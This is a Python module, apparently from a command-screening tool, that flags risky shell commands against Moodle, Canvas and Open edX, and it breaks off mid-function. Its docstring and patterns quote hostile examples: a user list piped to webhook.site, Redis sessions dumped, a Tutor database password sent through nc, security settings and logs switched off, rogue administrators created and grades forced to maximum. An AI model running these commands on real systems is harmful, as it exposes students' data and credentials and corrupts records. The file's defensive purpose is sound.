"""Learning-management systems from the shell: Moodle (`admin/cli/*.php`, moosh), Canvas (its REST API, `rails
runner`), Open edX (Tutor), LTI registrations, gradebooks and rosters (session 31); the same tools run in a container
(`docker exec`, `docker compose exec`, `kubectl exec`: infra.run_inside) judged as here.

Whose host is read as lms_tables.whose says (blocked: a bare public address, a drop-box, a request bin, a chat bot, a
tunnel and a free app host named for no one; reviewed: a named domain foreign to the input's; the school's, its
vendors' and the services schools use are no outsider's). Blocked:

- a Moodle site opened: `admin/cli/cfg.php --name=forcelogin --set=0`, the password policy or the lockout off, guests
  let in automatically, the HTTP client's blocked hosts emptied, multi-factor login off (`permission-tamper`); the log
  stores turned off or the logs' lifetime cut to days (`anti-forensics`); a path of a program Moodle runs set to a
  scratch file (`persistence`); the same through `moosh config-set`, SQL on `mdl_config` (the value quoted or not, one
  name or a list), a loop whose items pair the setting with its value (`for s in "forcelogin 0" …; do … --name=$1
  --set=$2`) or name the settings given one value (`for s in forcelogin passwordpolicy; do … --name=$s --set=0`); a
  `$CFG->forcelogin = false;` line written into config.php (lms_tables.judge_also);
- an administrator for someone: Moodle's `siteadmins` list rewritten (`cfg.php`, `moosh config-set`, SQL), Canvas's
  `POST /accounts/N/admins`, Tutor's `createuser --superuser`, `manage_user --superuser` or a `manage.py shell`
  `create_superuser` on a site that is not a dev one: blocked when the input makes the account with a password it
  writes (for an address not known to be the school's) or for an address on a domain that carries none of the
  organisation's words, reviewed otherwise; an administrator's password reset to a value the input writes, a role
  assignment written by SQL: reviewed (the password reset blocked when the input also reaches a host no one vouches
  for);
- an API client for an outsider: Open edX's `create_dot_application --redirect-uris` or a Canvas developer key
  (`rails runner 'DeveloperKey.create!(redirect_uris: …)'`, `POST /accounts/N/developer_keys`) redirecting to an
  outsider's host; `rails runner` code that mints a token or reads a key and sends it to an outsider's host
  (`exfiltration`);
- a learning platform's credential in a request's URL, body or header to a host that is not the school's
  (lms_tables.token_sent: a stranger, or a second host beside the school's own platform; a lone host nothing ties to
  the school is reviewed);
- an LTI registration's key set or login endpoint pointed at an outsider (SQL on `mdl_lti_types_config`; a tool's
  configuration written from the shell, `cat > lti.json <<'EOF'`, `tee`, `printf >`, a `.env`'s `LTI_KEY_SET_URL=`, as
  python/lms.py judges it written from code): whoever holds that key signs launches as any user
  (`privilege-escalation`); a verifying function that returns the token decoded written into a `.tsx`/`.jsx` file
  (the other code files are lms_tables.judge_also's);
- grades written by hand in the database (a grade set to the item's maximum, a grade stamped overridden, also through
  a JOIN, `rails runner` grading with `points_possible`), a grade posted through Canvas's API as the assignment's
  maximum for a student the command names (`system-write`); a plagiarism report's similarity score set to 0, the
  site's log rows deleted for a user or all of them, or by a person and an age (`anti-forensics`);
- what the school keeps sent to an outsider: the people an LMS API lists (`curl …/api/v1/accounts/1/users | curl -d
  @- https://webhook.site/…`, Moodle's web service POSTed, a base in a variable, Canvas's GraphQL), the sessions a
  Redis store keeps (`redis-cli --scan --pattern 'moodle_session*' | xargs redis-cli get`), the file such a read wrote
  uploaded (`-o u.json`, then `curl -F f=@u.json`), a secret Tutor prints (`tutor config printvalue
  MYSQL_ROOT_PASSWORD | nc …`, its `config.yml`, `manage.py shell` printing OAuth clients' secrets; sent anywhere,
  also through a variable given it), a secret setting Moodle prints (`cfg.php --name=bind_pw`); to a named domain
  foreign to the input's: reviewed;
- a plugin downloaded from a host that is neither Moodle's directory, a code host nor the organisation's, unpacked into
  the site's code and installed by `admin/cli/upgrade.php` (its install code runs at once); unpacked without the
  upgrade, bash/admin.py's review stands.

Reviewed: a roster, gradebook or course backup copied by scp/rsync/sftp to a bare public address (it may be the
school's own server; to a drop-box: blocked); one student given full marks through Canvas's API, or a number written as
one student's grade in the database; `irreversible`: moosh's `course-delete`, `user-delete`, `category-delete`,
Moodle's `delete_course.php` and `uninstall_plugins.php --run`, its web service's delete functions
(`wsfunction=core_course_delete_courses`), Canvas's `PUT /courses/N` with `event=delete`, Open edX's `delete_course`,
SQL that deletes grades, submissions, attempts, enrolments or plagiarism reports (and log rows by their age) outside a
test or development database, backups (`*.mbz`, a `backups` folder outside the project) deleted by `rm` or `find
-delete` (a rotation keeping six days or more, `-mtime +30`, `-mmin +20160`, is not held here: bash/exec.py holds any
delete in a backups folder outside the project; Moodle's scratch, `moodledata/temp/backup`, and a project's folder
in a home directory are no one's backups).

Allowed: the same tools' everyday work: `cfg.php --name=theme --set=boost`, `purge_caches.php`, `backup.php`,
`restore_backup.php`, `upgrade.php` after a plugin from moodle.org or the organisation's repository, `tutor dev do
createuser`, the API read into `jq` or a local file, a grade posted for a student from a CSV, an export uploaded to the
school's own Canvas (`/sis_imports`), a roster sent to the school's warehouse on its `.edu` domain or to the services
it teaches with.
"""
from __future__ import annotations

import re
from functools import lru_cache

from .. import lms_tables as lt
from ..per_input import in_input
from .commands import Cmd, has_flag, option_value, positionals
from .common import NET_SENDERS, feeders, input_text, mentions

RULE = "irreversible"


def _vals(cmd: Cmd) -> list[str]:
    return [v or "" for v in cmd.values()]


def _opt(cmd: Cmd, *names: str) -> str | None:
    """The value of one of the options `names` (None when absent or known only at run time)."""
    got = option_value(cmd.args, *names)
    return got[0].value if got else None


def _computed_opt(cmd: Cmd, name: str) -> bool:
    """`--name=$1`: the option is there, its value known only at run time."""
    return any(w.value is None and (w.text.startswith(name + "=") or w.text.startswith(f'"{name}=')) for w in cmd.args)


def _literal(w) -> bool:
    return w is not None and w.value is not None and "$" not in w.text and "`" not in w.text


# -- Moodle's command-line scripts -------------------------------------------------------------------------------------
def _script(cmd: Cmd) -> str | None:
    """The Moodle CLI script `php` runs (`admin/cli/cfg.php` -> `cfg.php`), or None."""
    skip = False
    for w in cmd.args:
        v = w.value or ""
        if skip or v.startswith("-"):
            skip = v in ("-d", "-c", "-z")  # (php's options that take a value: `-d memory_limit=1G`)
            continue
        if v.endswith(".php") and "/cli/" in "/" + v:
            return v.rsplit("/", 1)[-1]
        return None
    return None


_ADMIN_USER = re.compile(r"(?i)^(?:admin\w*|root|administrator|manager|siteadmin|moodleadmin|superuser)$")


def _php(a, cmd: Cmd) -> None:
    script = _script(cmd)
    if script is None:
        return
    if script == "cfg.php":
        _cfg(a, cmd)
    elif script == "reset_password.php":
        user = _opt(cmd, "--username", "-u")
        pw = option_value(cmd.args, "--password", "-p")
        if user and _ADMIN_USER.match(user) and pw and _literal(pw[0]):
            _password_set(a, cmd, f"`reset_password.php --username={user}`")
    elif script == "upgrade.php":
        _plugin_installed(a, cmd)
    elif script in ("delete_course.php", "delete_user.php", "delete_category.php") or \
            script == "uninstall_plugins.php" and has_flag(cmd.args, long=("--run",)):
        what = "the plugins' tables and settings (every course's data they held)" if script.startswith("uninstall") \
            else "what it names with all it holds (its users' submissions, grades and files)"
        a.review(RULE, f"`{script}` deletes {what}: there is no undo but a backup. Have a person confirm, or back it "
                       "up first (`admin/cli/backup.php`)", cmd.node)


def _cfg(a, cmd: Cmd) -> None:
    """`cfg.php --name=N --set=V [--component=C]`: a setting written; without `--set`, printed."""
    sets = option_value(cmd.args, "--set")
    names = option_value(cmd.args, "--name")
    comp = _opt(cmd, "--component")
    if not sets and not _computed_opt(cmd, "--set"):
        return
    name = names[0].value if names else None
    if name is None and (names or _computed_opt(cmd, "--name")):
        # (a name known only at run time: the input's own pairs of a setting and its value, a loop's items)
        for setting, rule, what in lt.settings_in(input_text(a)):
            a.block(rule, f"`cfg.php` sets Moodle's `{setting}` from the values this input pairs it with: {what}. "
                          "Leave the site's security settings to its administrators", cmd.node)
            return
        value = sets[0].value if sets and _literal(sets[0]) else None
        found = lt.setting_of(_named_by(a, cmd, "--name"), value) if value is not None else None
        if found is not None:
            a.block(found[1], f"`cfg.php --name=$… --set={value}` sets Moodle's `{found[0]}` (a value the name is "
                              f"given in this input) to {value}: {found[2]}. Leave the site's security settings to "
                              "its administrators", cmd.node)
        return
    if name is None:
        return
    if name.lower() == "siteadmins":
        _admins(a, cmd.node, "`cfg.php --name=siteadmins`", "rewrites the list of Moodle's site administrators")
        return
    value = sets[0].value if sets else None
    found = lt.setting_finding(name, value, comp)
    if found is not None:
        a.block(found[0], f"`cfg.php --name={name} --set={value}` turns a protection of the Moodle site off: "
                          f"{found[1]}. Leave the site's security settings to its administrators", cmd.node)


_VAR = re.compile(r"\$\{?(\w+)")


# a loop's or an assignment's values of a variable (`for s in forcelogin passwordpolicy`, `s=forcelogin`)
_GIVEN = re.compile(r"\bfor[ \t]++(\w+)[ \t]++in[ \t]([^;\n]{0,400})|(?<![\w$])(\w+)=([^\s;&|]{1,100})")


@lru_cache(maxsize=8)
def _values_given(text: str) -> dict[str, tuple[str, ...]]:
    """Each variable's values that name one of Moodle's settings, as the input's loops and assignments give them
    (once per input: every command asks)."""
    out: dict[str, dict[str, None]] = {}
    for m in _GIVEN.finditer(text):
        name, values = (m.group(1), m.group(2)) if m.group(1) else (m.group(3), m.group(4))
        for v in values.split():
            v = v.strip("\"'")
            if lt.setting_name(v):
                out.setdefault(name, {})[v] = None
    return {k: tuple(v) for k, v in out.items()}


def _named_by(a, cmd: Cmd, option: str) -> tuple[str, ...]:
    """The values the variable of `--name=$s` is given in this input: the settings a loop or an assignment names."""
    w = next((w for w in cmd.args if w.value is None and w.text.lstrip("\"'").startswith(option + "=")), None)
    m = _VAR.search(w.text) if w is not None else None
    return _values_given(input_text(a)).get(m.group(1), ()) if m is not None else ()


# -- administrators ---------------------------------------------------------------------------------------------------
# an account the input makes with a password it writes (`moosh user-create --password P`, Canvas's
# `pseudonym[password]=P`, Tutor's `createuser --password P`): not one the organisation's secret store gives (`$PW`)
_MADE_WITH_PASSWORD = re.compile(r"(?i)(?:user-create|createuser)\b[^\n;|&]{0,200}?--password(?:=|\s+)[\"']?[^$\s\"'`]|"
                                 r"pseudonym\]?\[?password\]?[=:\"' ]{1,4}[^$\s\"'`{]|"
                                 r"create_user\w*[^\n;|&]{0,200}?password[\"']?\s*[=:]\s*[\"'][^$\s\"'`{]")


_MADE_WITH_PASSWORD_B = re.compile(_MADE_WITH_PASSWORD.pattern.encode())
_PASSWORD_WORD = re.compile(rb"(?i)password")


def _admins(a, node, shown: str, what: str) -> None:
    """An administrator made (`node` is what is shown): blocked when this input makes the account with a password it
    writes or for a stranger's address, reviewed otherwise."""
    text = input_text(a)
    # (the word first: a search of the whole pattern from every `create_user` of a long input costs more)
    hidden = in_input(_PASSWORD_WORD, a.doc.data) and in_input(_MADE_WITH_PASSWORD_B, a.doc.data)
    stranger = lt.stranger_address(text)
    if hidden or stranger:
        why = f"for {stranger}, an address on a domain that has nothing to do with the organisation" if stranger else \
            "for an account this input makes with a password it writes (known only to whoever wrote the command)"
        a.block("privilege-escalation", f"{shown} {what}, {why}: a way into the whole site (every course, user and "
                                        f"grade) no one granted; {lt.ADMIN_FIX}", node)
    else:
        a.review("privilege-escalation", f"{shown} {what}: a person should confirm who is made an administrator",
                 node)


def _password_set(a, cmd: Cmd, shown: str) -> None:
    """An administrator's password set to a value written on the line: reviewed; blocked when the input also reaches
    an outsider's host."""
    far = _first_outsider(input_text(a))
    if far is not None:
        a.block("privilege-escalation", f"{shown} sets an administrator's password to a value this input writes, and "
                                        f"the input calls {far}: whoever is told there logs in as the administrator. "
                                        "Let the administrator reset their own password", cmd.node)
    else:
        a.review("privilege-escalation", f"{shown} sets an administrator's password to a value this input writes: "
                                         "a person should confirm, and the administrator change it at once", cmd.node)


_BARE = re.compile(r"(?<![\w.])(\d{1,3}(?:\.\d{1,3}){3})(?![\w.])")


@lru_cache(maxsize=8)
def _first_outsider(text: str) -> str | None:
    """The first outsider's host the input names (in a URL, or a bare public address), described; once per input."""
    from ..hosts import public_ip

    far = next((w for h in lt.url_hosts(text) for w in [lt.outsider(h, text)] if w), None)
    if far is not None:
        return far
    for m in _BARE.finditer(text):
        if public_ip(m.group(1)):
            return f"{m.group(1)}, a bare address no name of the organisation vouches for"
    return None


# -- moosh ------------------------------------------------------------------------------------------------------------
_MOOSH_ARG = frozenset({"-p", "--moodle-path", "-u", "--user", "-l", "--login"})
_MOOSH_DELETES = {"course-delete": "the courses with their users' submissions, grades and files",
                  "user-delete": "the accounts with their submissions, grades and messages",
                  "category-delete": "the category with every course in it",
                  "cohort-delete": "the cohorts (and the enrolments they give)",
                  "course-reset": "the courses' user data (submissions, grades, forum posts)",
                  "activity-delete": "the activity with its submissions and grades"}


def _moosh(a, cmd: Cmd) -> None:
    pos = positionals(cmd.args, _MOOSH_ARG)
    vals = [w.value or "" for w in pos]
    if not vals:
        return
    verb = vals[0]
    if verb == "config-set" and len(vals) > 2:
        found = lt.setting_finding(vals[1], pos[2].value, vals[3] if len(vals) > 3 else None)
        if vals[1].lower() == "siteadmins":
            _admins(a, cmd.node, "`moosh config-set siteadmins`", "rewrites the list of Moodle's site administrators")
        elif found is not None:
            a.block(found[0], f"`moosh config-set {vals[1]} {vals[2]}` turns a protection of the Moodle site off: "
                              f"{found[1]}. Leave the site's security settings to its administrators", cmd.node)
    elif verb in _MOOSH_DELETES:
        a.review(RULE, f"`moosh {verb}` deletes {_MOOSH_DELETES[verb]}: there is no undo but a backup. Have a person "
                       "confirm, or back the courses up first (`admin/cli/backup.php`)", cmd.node)
    elif verb == "user-mod" and option_value(cmd.args, "--password"):
        pw = option_value(cmd.args, "--password")[0]
        users = [v for v in vals[1:] if v != pw.value]
        if _literal(pw) and (any(_ADMIN_USER.match(u) for u in users) or has_flag(cmd.args, long=("--all",))):
            _password_set(a, cmd, "`moosh user-mod --password`")
    elif verb == "sql-run" and len(pos) > 1:
        _sql_text(a, "moosh sql-run", pos[1].value or pos[1].text, pos[1].node)


# -- Tutor (Open edX) -------------------------------------------------------------------------------------------------
def _tutor(a, cmd: Cmd) -> None:
    vals = _vals(cmd)
    if len(vals) < 2:
        return
    env = vals[0]  # local, dev, k8s
    if env not in ("local", "dev", "k8s"):
        return
    rest = vals[1:]
    if rest[:2] == ["do", "createuser"]:
        if env == "dev" or not (has_flag(cmd.args, long=("--superuser", "--staff"))):
            return
        pw = option_value(cmd.args, "--password", "-p")
        _superuser(a, cmd, f"`tutor {env} do createuser`", bool(pw and _literal(pw[0])),
                   [v for v in vals if "@" in v and not v.startswith("-")])
        return
    at = next((i for i, v in enumerate(rest) if v.endswith("manage.py")), None)
    if at is None:
        return
    sub = rest[at + 1:]
    verb = next((v for v in sub if v not in ("lms", "cms") and not v.startswith("-")), "")
    if verb == "create_dot_application":
        for w in option_value(cmd.args, "--redirect-uris", "--redirect_uris"):
            for url in (w.value or "").split():
                who = lt.outsider_url(url, input_text(a))
                if who is not None:
                    a.block("privilege-escalation", f"`create_dot_application` registers an OAuth application of the "
                                                    f"Open edX site that redirects to {who}: every sign-in a user "
                                                    "grants it hands that host a token for the user's account. "
                                                    "Register applications only for the organisation's own services",
                            cmd.node)
                    return
    elif verb == "manage_user" and has_flag(cmd.args, long=("--superuser", "--staff")) and env != "dev":
        flag = "--superuser" if has_flag(cmd.args, long=("--superuser",)) else "--staff"
        _admins(a, cmd.node, f"`manage.py manage_user {flag}`", "makes an administrator of the Open edX site")
    elif verb == "shell" and env != "dev":
        code = " ".join(w.value or w.text for w in option_value(cmd.args, "-c", "--command"))
        if _SUPERUSER.search(code):
            made = _MADE_SUPERUSER.search(code)
            _superuser(a, cmd, "`manage.py shell`", made is not None and bool(made.group(1) or made.group(2)),
                       [m.group(0) for m in _ADDRESS.finditer(code)], promoted=True)
    elif verb in ("delete_course", "delete_orphans", "delete_ccx"):
        a.review(RULE, f"`manage.py {verb}` deletes the course's content and learners' state from the Open edX site: "
                       "there is no undo but a backup. Have a person confirm, or export the course first", cmd.node)
    elif verb in ("createsuperuser",) and env != "dev" and has_flag(cmd.args, long=("--noinput", "--no-input")):
        a.review("privilege-escalation", "`manage.py createsuperuser` makes an administrator of the production Open "
                                         "edX site; a person should confirm who it is for", cmd.node)


# Django code that makes an administrator (`User.objects.create_superuser('u', 'e', 'pw')`, `is_superuser=True`), and
# the password it writes (the third argument, or `set_password('…')`)
_SUPERUSER = re.compile(r"\bcreate_superuser\s*\(|\bis_superuser\s*=\s*True\b")
_MADE_SUPERUSER = re.compile(r"""\bcreate_superuser\s*\(\s*(?:[^,()]{1,80},\s*){2}(['"][^'"$\s]{4,}['"])?|"""
                             r"""\bset_password\s*\(\s*(['"][^'"$\s]{4,}['"])""")
_ADDRESS = re.compile(r"[\w.+-]{1,64}@[A-Za-z0-9.-]{1,253}\.[A-Za-z]{2,}")


def _superuser(a, cmd: Cmd, shown: str, password: bool, addresses: list[str], promoted: bool = False) -> None:
    """An Open edX administrator made: blocked for a stranger's address, or with a password the command writes for an
    address not known to be the school's; reviewed with a password for the school's own address (Tutor's documented
    first administrator is how a site is set up), and, `promoted`, an account the code makes one of."""
    text = input_text(a)
    stranger = lt.stranger_address(text)
    own = bool(addresses) and all(lt.own_address(x, text) for x in addresses)
    if stranger or password and not own:
        why = f"for {stranger}, an address on a domain that has nothing to do with the organisation" if stranger \
            else "with a password the command writes, for an address nothing ties to the school"
        a.block("privilege-escalation", f"{shown} makes an administrator of the production Open edX site {why}: a way "
                                        f"in no one granted; {lt.ADMIN_FIX}", cmd.node)
    elif password:
        a.review("privilege-escalation", f"{shown} makes an administrator of the Open edX site with a password the "
                                         "command writes: a person should confirm who it is for, and the "
                                         "administrator change the password at once", cmd.node)
    elif promoted:
        a.review("privilege-escalation", f"{shown} makes an administrator of the Open edX site: a person should "
                                         "confirm who is made one", cmd.node)


def _tutor_secret(c: Cmd) -> str | None:
    """What a Tutor or Moodle command prints when that is a secret: `tutor config printvalue MYSQL_ROOT_PASSWORD`,
    `cfg.php --component=auth_ldap --name=bind_pw` (no `--set`)."""
    vals = _vals(c)
    if c.name == "tutor" and vals[:2] == ["config", "printvalue"] and len(vals) > 2 and _secret_setting(vals[2]):
        return f"`tutor config printvalue {vals[2]}`"
    if c.name == "tutor" and "shell" in vals and any(v.endswith("manage.py") for v in vals):
        code = " ".join(w.value or w.text for w in option_value(c.args, "-c", "--command"))
        if _SHELL_SECRET.search(code):
            return "`manage.py shell` code that prints the site's secrets (OAuth clients' secrets, keys, passwords)"
    if any("config printroot" in w.text and w.text.rstrip("\"'").endswith(("config.yml", "config.yaml"))
           for w in c.args):
        return "Tutor's `config.yml` (every service's password)"
    if c.name == "php" and _script(c) == "cfg.php" and not option_value(c.args, "--set"):
        name = _opt(c, "--name") or ""
        if _secret_setting(name):
            return f"`cfg.php --name={name}`"
    return None


# Moodle's own names of secrets secret_owner's reading of a name misses (`bind_pw`, `passwordsaltmain`, `dbpass`)
_MOODLE_SECRET = re.compile(r"(?i)_pw$|^pw$|bindpw|salt|^dbpass$|pass(?:word|wd)?$")
_SHELL_SECRET = re.compile(r"(?i)client_secret|secret_key|\bpassword\b|private_key|api_key|\btoken\b|"
                           r"\bsettings\.\w*(?:SECRET|PASSWORD|KEY)")


def _secret_setting(name: str) -> bool:
    from ..secret_owner import secret_name

    return secret_name(name) or _MOODLE_SECRET.search(name) is not None


# -- Canvas: `rails runner` code --------------------------------------------------------------------------------------
_DEV_KEY = re.compile(r"\bDeveloperKey\s*\.\s*(?:create|new|find_or_create_by|first_or_create)\w*!?")
_MINTS = re.compile(r"\baccess_tokens\s*\.\s*(?:create|new)\w*!?|\bAccessToken\s*\.\s*(?:create|new)\w*!?|"
                    r"\.full_token\b|\.api_key\b|Doorkeeper::Application\s*\.\s*create|\.generate_token\b|"
                    r"\bSetting\.get\b|\bencryption_key\b|Canvas::Security|\bcrypted_password\b|\bSecrets\b")
# (one word boundary before the names: an alternation of `\bName\b` tried every name at every character)
_RUBY_NET = re.compile(r"\b(?:Net::HTTP|URI\.open|open-uri|HTTParty|Faraday|RestClient|TCPSocket|Excon|"
                       r"HTTP\.(?:post|get))\b|`curl\b|system\s*\(\s*[\"']curl")
_RUBY_URL = re.compile(r"""(?:https?|tcp)://[^\s"'`)]{1,300}|(?<![\w.])\d{1,3}(?:\.\d{1,3}){3}(?![\w.])""")
_REDIRECTS = re.compile(r"""redirect_uris?\W{1,8}([^\n)]{1,400})""")


def _rails(a, cmd: Cmd) -> None:
    vals = _vals(cmd)
    if vals[:1] not in (["runner"], ["r"]):
        return
    code = next((v for v in vals[1:] if not v.startswith("-") and v not in ("production", "staging")), "")
    if not code:
        return
    text = input_text(a)
    if _DEV_KEY.search(code):
        for m in _REDIRECTS.finditer(code):
            for u in _RUBY_URL.finditer(m.group(1)):
                who = lt.outsider_url(u.group(0), text) if "//" in u.group(0) else None
                if who is not None:
                    a.block("privilege-escalation", f"`rails runner` makes a Canvas developer key that redirects to "
                                                    f"{who}: every user who authorises it hands that host a token for "
                                                    "their account (and the key's secret is printed). Create developer "
                                                    "keys only for the organisation's own tools, in the admin screens",
                            cmd.node)
                    return
    if lt.api_grade_max(code) and re.search(r"\b(?:update\w*|save|grade_student|update_columns)\b", code):
        a.block("system-write", "`rails runner` sets grades to the assignment's maximum straight in the database: full "
                                "marks nobody gave. Grades are the teacher's to enter", cmd.node)
        return
    if _MINTS.search(code) and _RUBY_NET.search(code):
        for u in _RUBY_URL.finditer(code):
            target = u.group(0)
            who = lt.whose_url(target, text) if "//" in target else lt.whose(target, text)
            if who is None:
                continue
            said = f"`rails runner` code makes or reads a credential of the Canvas site (a user's access token, a " \
                   f"developer key, the encryption key) and sends it to {who[1]}"
            if who[0] == "block":
                a.block("exfiltration", f"{said}; never send credentials anywhere", cmd.node)
            else:
                a.review("exfiltration", f"{said}: a person should confirm that host is the school's own", cmd.node)
            return


# -- SQL run against an LMS's database --------------------------------------------------------------------------------
def _sql_client(a, cmd: Cmd) -> None:
    from .datastores import _client_sql
    from .infra import _local_sql

    texts = _client_sql(a, cmd)
    # (a test or development copy, `moodle_test`, `canvas_development`, or this machine's: its rows are no one's
    # records)
    scratch = bool(texts) and _local_sql(a, cmd)
    for text, node in texts:
        if _sql_text(a, cmd.name, text, node, scratch):
            return


def _sql_text(a, shown: str, sql: str, node, scratch: bool = False) -> bool:
    found = lt.config_sql(sql)
    if found is not None:
        if found[1] == "privilege-escalation":
            _admins(a, node, f"`{shown}`", "rewrites the list of Moodle's site administrators in its database")
        else:
            a.block(found[1], f"`{shown}` sets Moodle's `{found[0]}` in its database: {found[2]}. Leave the site's "
                              "security settings to its administrators", node)
        return True
    graded = lt.grade_sql(sql)
    if graded is not None:
        (a.block if graded[0] == "block" else a.review)(
            graded[1], f"`{shown}` {graded[2]}. Grades change through the gradebook, by the teacher, where the change "
                       "is logged", node)
        return True
    roles = lt.role_sql(sql)
    if roles is not None:
        _admins(a, node, f"`{shown}`", f"writes `{roles}` straight in the database (a manager's or an administrator's "
                                       "role among them, at the whole site's level)")
        return True
    lti = lt.lti_sql(sql, input_text(a))
    if lti is not None:
        a.block("privilege-escalation", f"`{shown}` points the LTI registration's `{lti[0]}` at {lti[1]}: whoever "
                                        "holds the keys there signs launches and grades as the tool, for any user. "
                                        "Register tools with their vendor's or the organisation's own URLs", node)
        return True
    logs = lt.log_delete(sql)
    if logs is not None:
        if logs[1]:
            a.block("anti-forensics", lt.log_message(f"`{shown}`", logs[0]), node)
        elif not scratch:
            a.review(RULE, lt.log_age_message(f"`{shown}`", logs[0]), node)
        return True
    table = lt.records_delete(sql)
    if table is not None and not scratch:
        a.review(RULE, lt.deleted_message(f"`{shown}`", table), node)
        return True
    return False


# -- what the school keeps, sent to an outsider ------------------------------------------------------------------------
_REDIS_READS = frozenset({"GET", "MGET", "HGETALL", "HGET", "HVALS", "DUMP", "KEYS", "LRANGE", "SMEMBERS", "GETDEL",
                          "GETEX", "SCAN", "HSCAN"})


def _redis_read(c: Cmd) -> str | None:
    if c.name not in ("redis-cli", "valkey-cli", "keydb-cli"):
        return None
    from .infra import _REDIS_ARG

    if has_flag(c.args, long=("--scan", "--bigkeys", "--rdb", "--memkeys")):
        return f"the keys of the Redis store (`{c.name} --scan`: its sessions' and users' names)"
    verb = next((w.value for w in positionals(c.args, _REDIS_ARG)), None) or ""
    if verb.upper() in _REDIS_READS:
        return f"the values the Redis store keeps (`{c.name} {verb}`: sessions, cached user records)"
    return None


def _people_read(c: Cmd) -> str | None:
    """What of the school's people the HTTP request `c` reads: a list's URL fetched (GET), or a Moodle web service
    function or a Canvas GraphQL query of people in the request, however it is sent (both are POSTed as a rule)."""
    from .net import http_requests

    reader = http_requests(c.name)
    if reader is None:
        return None
    for r in reader(c.args):
        said = " ".join(w.value if w.value is not None else w.text for w in (*r.urls, *r.bodies))
        if "wsfunction" in said or "Connection" in said:
            found = lt.people_read(said)
            if found:
                return found
        if r.verb != "GET":
            continue
        for u in r.urls:
            found = lt.people_read(u.value if u.value is not None else u.text)
            if found:
                return found
    return None


def _destinations(a, cmd: Cmd) -> tuple[str, str] | None:
    """(verdict, who) for where `cmd` sends when that is not the school's (lms_tables.whose: the first host blocked,
    else the first reviewed)."""
    from .brokers import destinations

    text = input_text(a)
    found = [w for h in destinations(cmd) if h != "?" for w in [lt.whose(h, text)] if w is not None]
    return next((w for w in found if w[0] == "block"), found[0] if found else None)


def _uploaded_files(cmd: Cmd) -> list[str]:
    """The files an HTTP client sends as its body (`-T F`, `-F f=@F`, `--data-binary @F`)."""
    from .net import http_requests

    reader = http_requests(cmd.name)
    out = []
    for r in reader(cmd.args) if reader is not None else ():
        for kind, w in zip(r.kinds or ("",) * len(r.bodies), r.bodies):
            v = w.value or ""
            if kind == "upload-file" and v not in ("-", "."):
                out.append(v)
            elif "@" in v and not v.endswith("@-") and v.rpartition("@")[2] not in ("-", ""):
                out.append(v.rpartition("@")[2].split(";")[0])
    return out


def _written_by_read(a, cmd: Cmd, files: list[str]) -> str | None:
    """What of the school's people (or of its Redis store) an earlier command of the input read into one of `files`
    (`curl …/users -o u.json`, `curl …/users > u.json`, `redis-cli --scan … > s.txt`): the nearest 64 commands
    before the sender are read."""
    from .common import commands_in

    earlier = commands_in(a, [(0, cmd.node.start_byte)])[:64]
    for c in earlier:
        what = _redis_read(c) or _people_read(c)
        if what is None:
            continue
        outs = [w.value for w in option_value(c.args, "-o", "--output", "-O", "--output-document", cluster="oO")]
        for r in c.redirects:
            if r.type == "file_redirect":
                for d in r.children_by_field_name("destination")[:1]:
                    outs.append(a.src(d).strip("\"'"))
        if any(o and o in files for o in outs):
            return what
    return None


def _people_sent(a, cmd: Cmd, what: str, where: tuple[str, str], verb: str) -> None:
    if where[0] == "block":
        a.block("exfiltration", f"`{cmd.name}` {verb} {what} to {where[1]}: the school's people and their sessions "
                                "leave its systems. Keep exports in the organisation's own storage, and let the user "
                                "decide where they go", cmd.node)
    else:
        a.review("exfiltration", f"`{cmd.name}` {verb} {what} to {where[1]}: a person should confirm it is the "
                                 "school's own service or one it contracts", cmd.node)


# a variable given what a secret-printing command prints (`P=$(tutor config printvalue MYSQL_ROOT_PASSWORD)`)
_PRINTED_INTO = re.compile(r"\btutor\s+config\s+printvalue\s+(\w+)|(cfg\.php\b[^)]{0,200}?--name[= ](\w+))")


def _secret_in_variable(a, cmd: Cmd) -> str | None:
    """The secret-printing command whose output a variable `cmd` expands was given (the `$(…)` assigned earlier)."""
    from .net import _assigned_values

    for w in cmd.args:
        for m in _VAR.finditer(w.text if "$" in w.text else ""):
            for value in _assigned_values(a, cmd.node, m.group(1)):
                p = _PRINTED_INTO.search(value)
                name = p.group(1) or p.group(3) if p is not None else None
                if name and _secret_setting(name) and (p.group(1) or "--set" not in value):
                    return f"`{p.group(0)[:80]}`"
    return None


def _sent(a, cmd: Cmd) -> None:
    from .net import _is_sender, _sends_off

    if not in_input(_FEED_BYTES, a.doc.data) or not _is_sender(cmd) or not _sends_off(cmd):
        return
    fed = feeders(a, cmd)
    files = _uploaded_files(cmd)
    if files:
        what = _written_by_read(a, cmd, files)
        where = _destinations(a, cmd) if what else None
        if where is not None:
            _people_sent(a, cmd, f"the file holding {what}", where, "uploads")
            return
    if in_input(_PRINTS_B, a.doc.data):
        secret = _secret_in_variable(a, cmd)
        if secret is not None:
            a.block("exfiltration", f"`{cmd.name}` sends what {secret} printed, a secret of the LMS, off the machine; "
                                    "never send credentials anywhere", cmd.node)
            return
    if not fed:
        return
    where = None
    for c in fed:
        secret = _tutor_secret(c)
        if secret is not None:
            a.block("exfiltration", f"{secret} prints a secret of the LMS, and `{cmd.name}` sends it off the machine; "
                                    "never send credentials anywhere", cmd.node)
            return
        what = _redis_read(c) or _people_read(c)
        if what is None:
            continue
        where = where or _destinations(a, cmd)
        if where is not None:
            _people_sent(a, cmd, what, where, "sends")
            return


_FEED_BYTES = re.compile(rb"(?i)printvalue|printroot|cfg\.php|redis-cli|valkey-cli|keydb-cli|/api/v1/|wsfunction|"
                         rb"/api/user/|/api/enrollment|/api/grades|/d2l/api|/learn/api|oneroster|names_and_roles|"
                         rb"/memberships\b|/courses/|Connection|manage\.py")
_PRINTS_B = re.compile(rb"printvalue|cfg\.php")


# -- requests to an LMS's API -----------------------------------------------------------------------------------------
def _api(a, cmd: Cmd) -> None:
    """Canvas's REST API: an account administrator made, a developer key for an outsider, a grade set to the
    assignment's maximum for a student the command names."""
    from .api_calls import request_body
    from .net import http_requests

    reader = http_requests(cmd.name)
    if reader is None:
        return
    for r in reader(cmd.args):
        if "wsfunction" in " ".join(w.value or w.text for w in (*r.urls, *r.bodies)):
            m = lt.WS_DELETE.search(" ".join(w.value or w.text for w in (*r.urls, *r.bodies)))
            if m is not None:
                a.review(RULE, lt.ws_delete_message(f"`{cmd.name}`", m.group(0)), cmd.node)
                return
        if r.verb not in ("POST", "PUT", "PATCH"):
            continue
        for u in r.urls:
            url = u.value if u.value is not None else u.text
            if r.verb == "PUT" and lt.CANVAS_COURSE.search(url) and \
                    lt.COURSE_DELETED.search(request_body(a, cmd, r) + " " + url):
